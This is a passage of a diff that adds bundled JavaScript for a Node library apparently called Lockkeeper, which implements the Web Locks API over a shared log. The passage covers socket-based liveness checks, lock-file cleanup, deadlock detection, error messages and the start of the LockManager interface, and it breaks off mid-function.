+  let rang = false;
+  const ringAll = (message) => {
+    const others = [...members()].filter((member) => member !== client());
+    if (others.length) bell.ringAll(others, message, firstPath());
+  };
+  const ringing = {
+    /** What an entry of this context's has caused. @param {import('../../core/types.js').LockEvent} event */
+    caused(event) {
+      if (event.client !== client()) concerned.add(event.client);
+      if (event.type === "expired") ringing.queueChanged();
+    },
+    /**
+     * Requests have ended before they were granted, or their clients have died. Threads that wait behind them watched only those, so they
+     * must look again, and nothing else tells them. Processes are told by ./notices.js.
+     */
+    queueChanged() {
+      if (!notices()) concernsAll = true;
+    },
+    /**
+     * Call it before [operations] are written. A steal or forced release concerns contexts that do not yet know that they depend on this
+     * one, and this one may end before it rings.
+     * @param {ClientOperation[]} operations
+     */
+    announce(operations) {
+      notices()?.announce(operations);
+      if (members().size < 2 || !operations.some(takesAway)) return;
+      concernsAll = true;
+      ringAll({ client: client(), number: operations[operations.length - 1].number });
+    },
+    /** Call it after writing. */
+    ring() {
+      if (concernsAll) ringAll();
+      if (!concernsAll || notices()) concerned.forEach((each) => notices()?.wasTold(each) || bell.ring(each));
+      rang = rang || concerned.size > 0;
+      concerned.clear();
+      concernsAll = false;
+      notices()?.written();
+    },
+    /** Whether it has rung for anybody since the last call of this. */
+    hasRung() {
+      const before = rang;
+      rang = false;
+      return before;
+    }
+  };
+  return ringing;
+};
+
+// glue/log/clock.js
+var LONGEST_TIMER = 2 ** 31 - 1;
+
+// glue/platform/node/ticks.js
+var createTicks = ({ surroundings: { now: now3, setTimer }, core, pause, tick }) => {
+  let behind = 0;
+  let cancel = () => {
+  };
+  const logTime = () => {
+    const time = Math.floor(now3());
+    behind = Math.max(behind, core.time() - time);
+    return time + behind;
+  };
+  return {
+    /**
+     * Puts the time before [operations], if the log does not have it. They may grant a request with a lease, which begins then, and a
+     * context that was busy does not know whether there is one.
+     * @param {Operation[]} operations to be written
+     * @returns {Operation[]}
+     */
+    timed(operations) {
+      const time = logTime();
+      return time > core.time() ? [{ type: "tick", now: time }, ...operations] : operations;
+    },
+    /** Waits for the next deadline. */
+    settle() {
+      const due = core.nextDeadline();
+      if (due < Infinity) cancel = setTimer(tick, Math.min(Math.max(pause() || 1, due - logTime()), LONGEST_TIMER));
+    },
+    stop: () => cancel()
+  };
+};
+
+// glue/platform/node/log.js
+var FENCES_PER_MILLISECOND = 1e3;
+var createSharedLog = (surroundings, createCore2) => {
+  const { life, bell, now: now3, defer, afterTask } = surroundings;
+  let restored = false;
+  let busy = false;
+  let taskEndScheduled = false;
+  let dropping = false;
+  let delivered = 0;
+  const own = createOwnRequests(() => {
+    if (membership.isIdle()) membership.start();
+    else if (!dropping) flushing.soon();
+  }, () => false);
+  const telling = createTelling(own, defer);
+  const copy = createCopy(createCore2, {
+    applied(operation, events, by) {
+      const client = membership.client();
+      if (operation.type === "gone") [lookout, notices].forEach((each) => each?.forget(operation.client));
+      else if (operation.type !== "tick" && operation.client === client) delivered = operation.number;
+      const gone = operation.type === "gone" && operation.client === client;
+      for (const event of events) {
+        if (event.client === client && !restored && !gone && event.type !== "joined") {
+          own.eventHappened(event, operation);
+          if (event.type !== "removed") telling.add();
+        }
+        if (by === client) ringing.caused(event);
+      }
+    },
+    replaced() {
+      restored = true;
+      telling.add();
+    }
+  });
+  const { core, members } = copy;
+  const journal = surroundings.createJournal({
+    randomId: surroundings.randomId,
+    snapshot: () => core.snapshot(),
+    begin: () => copy.begin(surroundings.wallClock() * FENCES_PER_MILLISECOND),
+    restore: copy.restore,
+    apply(record) {
+      delivered = 0;
+      copy.take(record);
+      if (delivered && !restored) own.operationDelivered(delivered);
+    }
+  });
+  const membership = createMembership({
+    surroundings,
+    own,
+    journal,
+    again() {
+      (notices || lookout).doubt();
+      flushing.soon();
+    },
+    joined() {
+      restored = false;
+      flushing.begin();
+      bell.listen(membership.client(), {
+        rung,
+        alarmed: () => notices?.alarmed(),
+        stirred: () => notices?.stirred(),
+        cut: (client) => notices?.cut(client)
+      });
+      burials.visitSome(Math.floor(now3()));
+      flushing.soon();
+      life.sweep(members()).catch(() => {
+      });
+    },
+    left() {
+      busy = false;
+      keeping.stop();
+      ticks.stop();
+      lookout.stop();
+      notices?.stop();
+      bell.close();
+    },
+    tell: telling.addSoon
+  });
+  const ringing = createRinging({ bell, members, client: membership.client, firstPath: journal.firstPath, notices: () => notices });
+  const isNeeded = () => busy && membership.isMember();
+  const parts = { surroundings, journal, core, members, isNeeded, client: membership.client };
+  const lookout = createLookout({
+    ...parts,
+    died: (dead) => burials.bury([dead]),
+    failed: (error) => membership.isMember() && membership.fail(error)
+  });
+  const notices = bell.kernel && createNotices({
+    ...parts,
+    kernel: bell.kernel,
+    lookout,
+    isOpen: own.isOpen,
+    read: () => void lookForNews()
+  });
+  const burials = createBurials({
+    life,
+    copy,
+    membership,
+    ringing,
+    attempt: (action) => attempt(action),
+    read: () => read(),
+    write: (operations) => write2(operations),
+    tell: telling.soon
+  });
+  const ticks = createTicks({
+    surroundings,
+    core,
+    pause: membership.pause,
+    tick: () => (attempt(() => write2([])), telling.soon())
+  });
+  const flushing = createFlushing({
+    surroundings,
+    own,
+    membership,
+    isBusy: () => busy,
+    attempt: (action) => attempt(action),
+    write(operations) {
+      ringing.announce(operations);
+      write2(operations);
+    },
+    tell: telling.now
+  });
+  const keeping = createKeeping({ own, core, journal, membership, setTimer: surroundings.setTimer });
+  const compare = () => {
+    const [first] = own.outstanding();
+    const last = core.last(membership.client());
+    if (last >= 0 && restored) {
+      own.operationDelivered(last);
+      own.compare(core.state(), []);
+    }
+    restored = false;
+    if (last < 0 && !(first && first.type === "join")) membership.lost();
+  };
+  const read = () => {
+    journal.read();
+    notices?.hasRead();
+    if (restored || !members().has(membership.client())) compare();
+  };
+  const write2 = (operations) => {
+    journal.append({ by: membership.client(), operations: ticks.timed(operations) });
+    if (membership.isMember()) read();
+  };
+  const attempt = (action) => {
+    if (!membership.isMember()) return;
+    try {
+      action();
+      if (!membership.isMember()) return;
+      journal.tidy();
+      if (restored) compare();
+      membership.works();
+    } catch (error) {
+      membership.failed(error);
+    }
+    ringing.ring();
+    endTaskLater();
+  };
+  const endTaskLater = () => {
+    if (!taskEndScheduled) afterTask(endTask);
+    taskEndScheduled = true;
+  };
+  const endTask = () => {
+    taskEndScheduled = false;
+    if (!membership.isMember()) return;
+    settle();
+    keeping.update();
+    if (ringing.hasRung() && busy) bell.stayAwake(lookForNews);
+  };
+  const settle = () => {
+    ticks.stop();
+    if (own.busy() !== busy) {
+      busy = !busy;
+      membership.keep(busy);
+      if (!busy) notices?.rest();
+    }
+    if (!busy) return;
+    ticks.settle();
+    (notices || lookout).settle();
+  };
+  const rung = (message, answer3) => {
+    attempt(read);
+    if (membership.isMember() && message) {
+      if (notices) notices.hear(message, answer3);
+      else if (core.last(message.client) < message.number) lookout.expect(message.client, message.number);
+    }
+    telling.now();
+  };
+  const lookForNews = () => {
+    attempt(read);
+    const found = telling.hasNews();
+    telling.now();
+    return found;
+  };
+  const mark = async (operation) => {
+    await own.mark(operation);
+    if (membership.reason()) throw membership.reason();
+  };
+  return withSecondLook({
+    clientId: membership.client,
+    request: (description, listener) => own.request(description, (outcome, fence) => listener(outcome, fence, outcome === "lost" ? membership.reason() : void 0)),
+    drop(request) {
+      if (!request.fence && members().size > 1) ringing.queueChanged();
+      dropping = membership.isMember();
+      own.drop(request);
+      dropping = false;
+      if (!membership.isMember()) return;
+      flushing.now();
+      telling.soon();
+    },
+    detach(request) {
+      keeping.detach(request);
+      endTaskLater();
+    },
+    join() {
+      if (membership.isIdle()) membership.start();
+    },
+    forceRelease: (names) => mark({ type: "force-release", names }),
+    async query() {
+      await mark();
+      await burials.visit(burials.withRequests());
+      return core.state();
+    },
+    async inspect() {
+      await mark();
+      await burials.visit(members());
+      const [log, count] = [String(journal.number()), journal.position()];
+      return { client: membership.client(), leader: "", log, count, alone: members().size < 2, state: core.state() };
+    },
+    leave() {
+      if (membership.isIdle()) return;
+      attempt(() => {
+        notices?.leave();
+        write2([{ type: "gone", client: membership.client() }]);
+      });
+      membership.leave();
+    }
+  }, burials.buryBefore);
+};
+
+// glue/platform/node/sockets.js
+var import_node_fs8 = require("node:fs");
+var import_node_net = require("node:net");
+var import_node_buffer4 = require("node:buffer");
+var import_node_path4 = require("node:path");
+var import_node_process3 = __toESM(require("node:process"), 1);
+var import_node_timers3 = require("node:timers");
+
+// glue/platform/node/locked-files.js
+var locked_files_exports = {};
+__export(locked_files_exports, {
+  hold: () => hold,
+  isHeld: () => isHeld,
+  pathOf: () => pathOf2
+});
+var import_node_fs7 = require("node:fs");
+var import_promises2 = require("node:fs/promises");
+var O_SHLOCK = 16;
+var O_EXLOCK = 32;
+var { O_CREAT: O_CREAT2, O_EXCL: O_EXCL2, O_NONBLOCK, O_RDONLY, O_RDWR: O_RDWR2 } = import_node_fs7.constants;
+var pathOf2 = (path) => `${path}!`;
+var hold = async (path) => {
+  const handle = await (0, import_promises2.open)(pathOf2(path), O_CREAT2 | O_EXCL2 | O_RDWR2 | O_EXLOCK | O_NONBLOCK, 384);
+  return {
+    close() {
+      try {
+        (0, import_node_fs7.unlinkSync)(pathOf2(path));
+      } catch {
+      }
+      handle.close().catch(() => {
+      });
+    }
+  };
+};
+var isHeld = (path) => {
+  try {
+    (0, import_node_fs7.closeSync)((0, import_node_fs7.openSync)(pathOf2(path), O_RDONLY | O_SHLOCK | O_NONBLOCK));
+    return false;
+  } catch (error) {
+    return codeOf(error) !== "ENOENT";
+  }
+};
+
+// glue/platform/node/sockets.js
+var LONGEST_PATH = 103;
+var AT_ONCE = 5;
+var LOOK_AGAIN3 = 50;
+var LONGEST_ANSWER = 250;
+var FORBIDDEN = ["EACCES", "EPERM"];
+var ignore2 = () => {
+};
+var pathOf3 = (directory, client) => {
+  const name = client.slice(0, 12);
+  if (import_node_process3.default.platform === "win32") return `\\\\.\\pipe\\lockkeeper\\${(0, import_node_path4.resolve)(directory).replace(/[\\:]/g, "-")}\\${name}`;
+  const path = (0, import_node_path4.join)(directory, name);
+  const excess = import_node_buffer4.Buffer.byteLength(path) - LONGEST_PATH;
+  if (excess > 0) {
+    const bytes = `${excess} byte${excess > 1 ? "s" : ""}`;
+    throw new Error(`Lockkeeper: ${directory} is too long a path for the sockets in it. Use one that is shorter by ${bytes}.`);
+  }
+  return path;
+};
+var listen = (path, use) => new Promise((resolve3, reject) => {
+  const server = (0, import_node_net.createServer)((socket) => {
+    socket.unref();
+    socket.on("error", ignore2);
+    socket.resume();
+    use(socket);
+  });
+  server.on("error", reject);
+  server.listen({ path, exclusive: true }, () => resolve3(server));
+  server.unref();
+});
+var createSockets = (second, open3 = import_node_net.connect) => {
+  const reach = (path) => {
+    const socket = open3(path);
+    socket.unref();
+    socket.on("error", ignore2);
+    socket.resume();
+    return socket;
+  };
+  const isDeath = (path, code) => code === "ENOENT" || code === "ECONNREFUSED" && !(second && second.isHeld(path));
+  return {
+    pathOf: pathOf3,
+    /**
+     * Shows that this context lives, until it ends or closes this.
+     * @param {string} path
+     * @param {UseSocket} [use] others' connections
+     * @returns {Promise<{ref(): void, unref(): void, close(): void}>} once others can see it
+     */
+    async holdAlive(path, use = ignore2) {
+      const held = second && await second.hold(path);
+      try {
+        const server = await listen(path, use);
+        if (import_node_process3.default.platform !== "win32") (0, import_node_fs8.lstatSync)(path);
+        return {
+          ref: () => void server.ref(),
+          unref: () => void server.unref(),
+          close() {
+            server.close();
+            held?.close();
+          }
+        };
+      } catch (error) {
+        held?.close();
+        throw error;
+      }
+    },
+    /**
+     * @param {string} path
+     * @param {() => void} onDeath
+     * @param {(error: Error) => void} [onFailure] deaths can no longer be seen there
+     * @param {UseSocket} [use] gets the connections, one after the other
+     * @returns {() => void} stops the watch
+     */
+    watchAlive(path, onDeath, onFailure = ignore2, use = ignore2) {
+      let wanted = true;
+      let attempts = 0;
+      let socket;
+      const attempt = () => {
+        if (!wanted) return;
+        let failure;
+        socket = reach(path);
+        socket.on("error", (error) => {
+          failure = error;
+        });
+        socket.on("close", () => {
+          const code = failure ? codeOf(failure) : "";
+          if (!wanted) return;
+          if (isDeath(path, code)) onDeath();
+          else if (failure && FORBIDDEN.includes(code)) onFailure(failure);
+          else if (attempts++ < AT_ONCE) attempt();
+          else (0, import_node_timers3.setTimeout)(attempt, LOOK_AGAIN3).unref();
+        });
+        use(socket);
+      };
+      attempt();
+      return () => {
+        wanted = false;
+        socket.destroy();
+      };
+    },
+    /** @param {string} path @returns {Promise<boolean>} */
+    isAlive: (path) => new Promise((resolve3) => {
+      const socket = reach(path);
+      const answer3 = (alive) => {
+        (0, import_node_timers3.clearTimeout)(timer2);
+        socket.destroy();
+        resolve3(alive);
+      };
+      socket.ref();
+      const timer2 = (0, import_node_timers3.setTimeout)(answer3, LONGEST_ANSWER, true);
+      socket.on("error", (error) => answer3(!isDeath(path, codeOf(error))));
+      socket.on("connect", () => answer3(true));
+    }),
+    /** Removes what a dead context has left. @param {string} path */
+    bury(path) {
+      for (const each of second ? [path, second.pathOf(path)] : [path]) {
+        try {
+          (0, import_node_fs8.unlinkSync)(each);
+        } catch {
+        }
+      }
+    }
+  };
+};
+var needsSecondSign = import_node_process3.default.platform !== "linux" && import_node_process3.default.platform !== "win32";
+var sockets = createSockets(needsSecondSign ? locked_files_exports : void 0);
+
+// glue/platform/node.js
+var SAFE_SOCKETS = 22;
+var STALE2 = 3600 * 1e3;
+var SIGN = "g";
+var PART = /[-+!]$/;
+var toScope = (scope) => {
+  if (scope === void 0 || scope === "process" || scope === "host") return scope;
+  throw new TypeError(`A manager's scope is 'process' or 'host', not '${scope}'`);
+};
+var now = () => {
+  const [seconds, nanoseconds] = import_node_process4.default.hrtime();
+  return seconds * 1e3 + nanoseconds / 1e6;
+};
+var randomId = () => (0, import_node_crypto2.randomUUID)().replace(/-/g, "").slice(0, 24);
+var createLife = (directory, { pathOf: pathOf4, holdAlive: holdAlive2, watchAlive: watchAlive2, isAlive: isAlive2, bury: bury2 }, lines) => {
+  const path = (client) => pathOf4(directory, SIGN + client);
+  path(randomId());
+  const own = lines || {
+    hold: (client) => holdAlive2(path(client)),
+    watch: (client, onDeath, onFailure) => watchAlive2(path(client), onDeath, onFailure)
+  };
+  return {
+    hold: own.hold,
+    watch: own.watch,
+    isAlive: (client) => isAlive2(path(client)),
+    bury: (client) => bury2(path(client)),
+    /** @param {string} client */
+    touch(client) {
+      const time = /* @__PURE__ */ new Date();
+      for (const each of [directory, path(client)]) (0, import_node_fs9.utimes)(each, time, time, () => {
+      });
+    },
+    async hasStrangers() {
+      if (import_node_process4.default.platform === "win32") return true;
+      const strangers = (0, import_node_fs9.readdirSync)(directory).filter((entry) => entry !== "log" && !entry.startsWith(SIGN) && !PART.test(entry));
+      const alive = await Promise.all(strangers.map((entry) => isAlive2((0, import_node_path5.join)(directory, entry))));
+      return alive.includes(true);
+    },
+    /** Removes the files of contexts that have ended before they became members. @param {Set<string>} members */
+    async sweep(members) {
+      const known = new Set([...members].map(path));
+      for (const entry of (0, import_node_fs9.readdirSync)(directory)) {
+        const each = (0, import_node_path5.join)(directory, entry);
+        if (entry === "log" || known.has(each)) continue;
+        const { ctimeMs } = (0, import_node_fs9.lstatSync)(each, { throwIfNoEntry: false }) || { ctimeMs: Infinity };
+        if (Date.now() - ctimeMs > STALE2 && !await isAlive2(each)) bury2(each);
+      }
+    }
+  };
+};
+var createNodeLog = (name, { scope, keepAlive = true, directory: parent }, createCore2) => {
+  const place = { scope: toScope(scope), directory: parent === void 0 ? void 0 : (0, import_node_path5.resolve)(parent) };
+  const directory = openDirectory(name, place);
+  const signs = scope === "host" || parseInt(import_node_process4.default.versions.node) >= SAFE_SOCKETS ? sockets : descriptors_exports;
+  const lines = scope === "host" ? createLines(sockets, (client) => sockets.pathOf(directory, SIGN + client)) : void 0;
+  return createSharedLog({
+    prepare: () => void openDirectory(name, place),
+    createJournal: (parts) => createJournal({ directory, ...parts }),
+    life: createLife(directory, signs, lines),
+    bell: lines ? createProcessBell(import_node_process4.default.platform, lines) : createThreadBell(directory),
+    now,
+    wallClock: Date.now,
+    randomId,
+    setTimer(callback, milliseconds, keepsAlive = false) {
+      const timer2 = (0, import_node_timers4.setTimeout)(callback, milliseconds);
+      if (!keepsAlive) timer2.unref();
+      return () => (0, import_node_timers4.clearTimeout)(timer2);
+    },
+    afterTask: (callback) => void (0, import_node_timers4.setImmediate)(callback),
+    defer: (callback) => void Promise.resolve().then(callback),
+    warn: (text2) => import_node_process4.default.emitWarning(text2),
+    keepAlive
+  }, createCore2);
+};
+
+// glue/entries/node.js
+var isNode = true;
+var debugSetting = () => {
+  const { LOCKKEEPER_DEBUG } = (
+    /** @type {{LOCKKEEPER_DEBUG?: unknown}} */
+    globalThis
+  );
+  try {
+    return LOCKKEEPER_DEBUG || import_node_process5.default.env.LOCKKEEPER_DEBUG;
+  } catch {
+    return void 0;
+  }
+};
+var STDERR = 2;
+var printLine = (line) => {
+  try {
+    (0, import_node_fs10.writeSync)(STDERR, `${line}
+`);
+  } catch {
+  }
+};
+var randomId2 = () => (0, import_node_crypto3.randomBytes)(16).toString("hex");
+var createLog = (name, options = {}, watch3) => createNodeLog(name, options, watch3 ? watch3(createCore) : createCore);
+
+// glue/api/inspect.js
+var waitsFor = (held, pending) => {
+  const ahead = /* @__PURE__ */ new Map();
+  const edges = /* @__PURE__ */ new Map();
+  for (const { client, mode, names } of [...held, ...pending]) {
+    const targets = edges.get(client) || /* @__PURE__ */ new Set();
+    edges.set(client, targets);
+    for (const name of names) {
+      const clients = ahead.get(name) || { all: /* @__PURE__ */ new Set(), exclusive: /* @__PURE__ */ new Set() };
+      ahead.set(name, clients);
+      (mode === "shared" ? clients.exclusive : clients.all).forEach((each) => targets.add(each));
+      clients.all.add(client);
+      if (mode === "exclusive") clients.exclusive.add(client);
+    }
+  }
+  return edges;
+};
+var findDeadlocks = (edges) => {
+  const reach = (start) => {
+    const found = /* @__PURE__ */ new Set();
+    const open3 = [start];
+    for (let client = open3.pop(); client !== void 0; client = open3.pop()) {
+      for (const next of edges.get(client) || []) {
+        if (!found.has(next)) open3.push(next);
+        found.add(next);
+      }
+    }
+    return found;
+  };
+  const clients = [...edges.keys()];
+  const reached = new Map(clients.map((client) => [client, reach(client)]));
+  const wait = (one, other) => (
+    /** @type {Set<string>} */
+    reached.get(one).has(other)
+  );
+  const groups = clients.map((one) => clients.filter((other) => one === other || wait(one, other) && wait(other, one)));
+  return groups.filter((group, index) => group.length > 1 && group[0] === clients[index]);
+};
+var findWaitingForThemselves = (held, pending) => {
+  const keyOf = ({ client, mode }, name) => JSON.stringify([client, mode, name]);
+  const holds = /* @__PURE__ */ new Set();
+  for (const request of held) for (const name of request.names) holds.add(keyOf(request, name));
+  const isBlockedByOwn = (request) => request.names.some((name) => holds.has(keyOf({ ...request, mode: "exclusive" }, name)) || request.mode === "exclusive" && holds.has(keyOf({ ...request, mode: "shared" }, name)));
+  return [...new Set(pending.filter(isBlockedByOwn).map(({ client }) => client))];
+};
+var reportOf = ({ client, leader, count, state }, sinceOf) => {
+  const of = (member, requests) => requests.filter((request) => request.client === member);
+  const asked = ({ client: owner, number, names, mode }) => ({ names, mode, since: sinceOf(owner, number) });
+  return {
+    client,
+    leader,
+    entries: count,
+    members: state.members.map((member) => ({
+      client: member.client,
+      held: of(member.client, state.held).map((request) => ({ ...asked(request), fence: request.fence })),
+      pending: of(member.client, state.pending).map(asked)
+    })),
+    deadlocks: findDeadlocks(waitsFor(state.held, state.pending)),
+    waitsForItself: findWaitingForThemselves(state.held, state.pending)
+  };
+};
+
+// glue/api/wording.js
+var LONGEST2 = 60;
+var show = (value) => {
+  if (typeof value === "function") return "a function";
+  if (typeof value === "object" && value !== null) return Array.isArray(value) ? "an array" : "an object";
+  const text2 = typeof value === "string" ? JSON.stringify(value) : String(value);
+  return text2.length > LONGEST2 ? `${text2.slice(0, LONGEST2)}\u2026` : text2;
+};
+var tooFewArguments = (operation, needed, count) => IS_PACKAGE ? `${operation}() needs ${needed}. It was called with ${count === 1 ? "1 argument" : `${count} arguments`}.` : "Too few arguments";
+var notACallback = (value) => IS_PACKAGE ? `The callback must be a function, not ${show(value)}.` : "No callback";
+var notOptions = (value) => IS_PACKAGE ? `The options must be an object, not ${show(value)}.` : "No options";
+var notAMode = (value) => IS_PACKAGE ? `The lock mode must be 'exclusive' or 'shared', not ${show(value)}.` : "No lock mode";
+var notASignal = (value) => IS_PACKAGE ? `The option signal must be an AbortSignal, not ${show(value)}.` : "No AbortSignal";
+var reservedName = (name) => IS_PACKAGE ? `The name ${show(name)} is reserved: the name of a lock must not begin with a hyphen.` : "Reserved name";
+var conflictIn = ({ ifAvailable, mode, signal, steal }) => {
+  const isShared = mode === "shared";
+  if (!(steal && (ifAvailable || isShared)) && !(signal && (steal || ifAvailable))) return "";
+  if (!IS_PACKAGE) return "Conflicting options";
+  const [one, other] = !steal ? ["signal", "ifAvailable"] : ["steal", ifAvailable ? "ifAvailable" : isShared ? "mode 'shared'" : "signal"];
+  return `LockOptions.${one} cannot be combined with ${other}.`;
+};
+var illegalInvocation = (name) => IS_PACKAGE ? `Illegal invocation: this is not a ${name}. Call a method as object.method(), or bind it to its object.` : "Illegal invocation";
+var illegalConstructor = (name) => IS_PACKAGE ? `Illegal constructor: a ${name} cannot be made by new.` : "Illegal constructor";
+var INACTIVE_DOCUMENT = IS_PACKAGE ? "This document is not active: its frame was removed, or its window shows another document." : "Inactive document";
+var OPAQUE_ORIGIN = IS_PACKAGE ? "This origin is opaque, so it has no storage and no locks. A sandboxed frame needs allow-same-origin." : "Opaque origin";
+var ABORTED = IS_PACKAGE ? "The signal has aborted the request." : "Request aborted";
+var lockOn = (names) => `lock on ${names.map(show).join(", ")}`;
+var ending = (outcome, names, held) => {
+  if (!IS_PACKAGE) return ["AbortError", "Lock lost"];
+  if (outcome === "expired") {
+    const what = lockOn(names);
+    return ["TimeoutError", held ? `The lease of the ${what} is over.` : `The ${what} was not granted within the timeout.`];
+  }
+  if (outcome === "closed") return ["AbortError", `The request for the ${lockOn(names)} has ended: its lock manager was closed.`];
+  if (outcome === "lost") {
+    return ["AbortError", `The ${lockOn(names)} was lost: this context has left the lock manager, as a page does on its way into the back-forward cache, or the others took it for dead.`];
+  }
+  return ["AbortError", `The ${lockOn(names)} was lost: stolen, or broken by forceRelease().`];
+};
+
+// glue/api/environment.js
+var createEnvironment = (global2) => ({
+  global: global2,
+  document: global2.document,
+  DOMException: global2.DOMException,
+  // A page that was opened from a file has the origin null too, but it has storage.
+  opaque: global2.origin === "null" && /** @type {{protocol: string}} */
+  global2.location.protocol !== "file:"
+});
+var createException = ({ DOMException }, name, message) => new DOMException(message, name);
+var isFullyActive = ({ document }) => {
+  if (!document) return true;
+  try {
+    return (
+      /** @type {Window} */
+      document.defaultView.document === document
+    );
+  } catch {
+    return false;
+  }
+};
+var checkEnvironment = (environment) => {
+  if (!isFullyActive(environment)) throw createException(environment, "InvalidStateError", INACTIVE_DOCUMENT);
+  if (environment.opaque) throw createException(environment, "SecurityError", OPAQUE_ORIGIN);
+};
+
+// glue/api/idl.js
+var toDOMString = (value) => `${value}`;
+var toMode = (value = "exclusive") => {
+  const mode = toDOMString(value);
+  if (mode !== "exclusive" && mode !== "shared") throw new TypeError(notAMode(mode));
+  return mode;
+};
+var toSignal = (global2, value) => {
+  if (value === void 0) return void 0;
+  const { AbortSignal } = global2;
+  const getter = AbortSignal && Object.getOwnPropertyDescriptor(AbortSignal.prototype, "aborted");
+  try {
+    const signal = (
+      /** @type {AbortSignal} */
+      value
+    );
+    if (typeof (getter ? (
+      /** @type {Function} */
+      getter.get.call(signal)
+    ) : signal.aborted) === "boolean") return signal;
+  } catch {
+  }
+  throw new TypeError(notASignal(value));
+};
+var toCallback = (value) => {
+  if (typeof value !== "function") throw new TypeError(notACallback(value));
+  return (
+    /** @type {(argument: unknown) => unknown} */
+    value
+  );
+};
+var toDictionary = (value) => {
+  if (value === void 0 || value === null) return /* @__PURE__ */ Object.create(null);
+  if (Object(value) !== value) throw new TypeError(notOptions(value));
+  return (
+    /** @type {Record<string, unknown>} */
+    value
+  );
+};
+var toLockOptions = (global2, value) => {
+  const dictionary = toDictionary(value);
+  return {
+    ifAvailable: !!dictionary.ifAvailable,
+    mode: toMode(dictionary.mode),
+    signal: toSignal(global2, dictionary.signal),
+    steal: !!dictionary.steal
+  };
+};
+var toRequestArguments = (global2, given) => {
+  if (given.length < 2) throw new TypeError(tooFewArguments("request", "a name and a callback", given.length));
+  const [name, options, callback] = given.length > 2 ? given : [given[0], void 0, given[1]];
+  return { name: toDOMString(name), options: toLockOptions(global2, options), callback: toCallback(callback) };
+};
+
+// glue/api/platform-object.js
+var answer;
+var answerFor = function(target) {
+  answer = this;
+  return Object.getPrototypeOf(target);
+};
+var createPlatformObject = (Interface, state) => {
+  const handler = { Interface, state, proxy: void 0, getPrototypeOf: answerFor };
+  return handler.proxy = new Proxy(Object.create(Interface.prototype), handler);
+};
+var stateOf = (Interface, object) => {
+  answer = void 0;
+  const prototype2 = Object.getPrototypeOf(Object(object));
+  const handler = (
+    /** @type {Handler | undefined} */
+    prototype2 && answer
+  );
+  if (!handler || handler.proxy !== object || handler.Interface !== Interface) throw new TypeError(illegalInvocation(Interface.name));
+  return (
+    /** @type {State} */
+    handler.state
+  );
+};
+var defineMembers = (target, members) => Object.defineProperties(target, Object.getOwnPropertyDescriptors(members));
+var INSPECT = /* @__PURE__ */ Symbol.for("nodejs.util.inspect.custom");
+var SHOWN = ["name", "scope", "mode", "fence"];
+var showInConsole = function(depth, options, inspect2) {
+  const tag = this[Symbol.toStringTag];
+  try {
+    return `${tag} ${inspect2(Object.fromEntries(SHOWN.filter((key) => key in this).map((key) => [key, this[key]])), options)}`;
+  } catch {
+    return `${tag} {}`;
+  }
+};
+var defineInterface = (name, members) => {
+  const Interface = class {
+    constructor() {
+      throw new TypeError(illegalConstructor(name));
+    }
+  };
+  const tag = { value: name, configurable: true };
+  Object.defineProperty(Interface, "name", tag);
+  Object.defineProperty(defineMembers(Interface.prototype, members), Symbol.toStringTag, tag);
+  if (IS_PACKAGE) Object.defineProperty(Interface.prototype, INSPECT, { value: showInConsole, configurable: true });
+  return Interface;
+};
+
+// glue/api/lock.js
+var Lock = /* @__PURE__ */ defineInterface("Lock", {
+  /** @returns {string} */
+  get name() {
+    return stateOf(Lock, this).name;
+  },
+  /** @returns {'exclusive' | 'shared'} */
+  get mode() {
+    return stateOf(Lock, this).mode;
+  }
+});
+var createLock = (fence, { names: [name], mode }) => createPlatformObject(Lock, { name, mode });
+
+// glue/api/query.js
+var lockInfos = (requests) => {
+  const infos = [];
+  for (const { client, mode, names } of requests) {
+    for (const name of names) infos.push({ clientId: client, mode, name });
+  }
+  return infos;
+};
+var snapshotOf = ({ held, pending }) => ({ held: lockInfos(held), pending: lockInfos(pending) });
+
+// glue/api/follow.js
+var followed = /* @__PURE__ */ new WeakMap();
+var follow = (signal, onAbort) => {
+  if (!IS_PACKAGE) {
+    const listener2 = () => {
+      if (signal.aborted) onAbort();
+    };
+    signal.addEventListener("abort", listener2);
+    return () => signal.removeEventListener("abort", listener2);
+  }
+  const both = followed.get(signal) || [/* @__PURE__ */ new Set(), () => {
+    if (signal.aborted) both[0].forEach((each) => each());
+  }];
+  const [onAborts, listener] = both;
+  if (!onAborts.size) {
+    followed.set(signal, both);
+    signal.addEventListener("abort", listener);
+  }
+  onAborts.add(onAbort);
+  return () => {
+    onAborts.delete(onAbort);
+    if (!onAborts.size) signal.removeEventListener("abort", listener);
+  };
+};
+
+// glue/api/request.js
+var abortReason = (environment, signal) => {
+  const { reason } = signal;
+  return reason === void 0 ? createException(environment, "AbortError", ABORTED) : reason;
+};
+var run = (callback, handle) => new Promise((settle) => settle(callback(handle)));
+var requestLock = (environment, log, description, signal, createHandle, callback) => {
+  let resolve3 = (
+    /** @type {(value: unknown) => void} */
+    /** @type {unknown} */
+    void 0
+  );
+  let reject = resolve3;
+  let held = false;
+  let ended = false;
+  const promise = new Promise((onResolve, onReject) => {
+    resolve3 = onResolve;
+    reject = onReject;
+  });
+  const request = log.request(description, (outcome, fence, reason) => {
+    if (outcome === "granted" && signal && signal.aborted) {
+      abort();
+      return;
+    }
+    stopFollowing();
+    if (outcome === "granted") {
+      held = true;
+      const settled = (settle) => (value) => {
+        if (!ended) log.drop(request);
+        settle(value);
+      };
+      run(callback, createHandle(fence, description)).then(settled(resolve3), settled(reject));
+    } else if (outcome === "unavailable") resolve3(run(callback, null));
+    else {
+      ended = true;
+      reject(reason || createException(environment, ...ending(outcome, description.names, held)));
+    }
+  });
+  const abort = () => {
+    stopFollowing();
+    log.drop(request);
+    reject(abortReason(
+      environment,
+      /** @type {AbortSignal} */
+      signal
+    ));
+  };
+  const stopFollowing = signal ? follow(signal, abort) : () => {
+  };
+  return promise;
+};
+
+// glue/api/lock-manager.js
+var answer2 = (manager, operation) => {
+  try {
+    return operation(stateOf(LockManager, manager));
+  } catch (error) {
+    return Promise.reject(error);
+  }
+};
+var checkRequest = (environment, name, options) => {
+  const { signal } = options;
+  const refused = name[0] === "-" ? reservedName(name) : conflictIn(options);
+  if (refused) throw createException(environment, "NotSupportedError", refused);
+  if (signal && signal.aborted) throw abortReason(environment, signal);
+};
+var LockManager = /* @__PURE__ */ defineInterface("LockManager", {
+  /**
+   * request(name, callback) or request(name, options, callback).
+   * @param {unknown} name
+   * @param {unknown} callback
+   * @returns {Promise<unknown>}
+   */
+  // eslint-disable-next-line no-unused-vars -- the standard fixes request.length
+  request(name, callback) {
+    return answer2(this, ({ environment, openLog: openLog2 }) => {
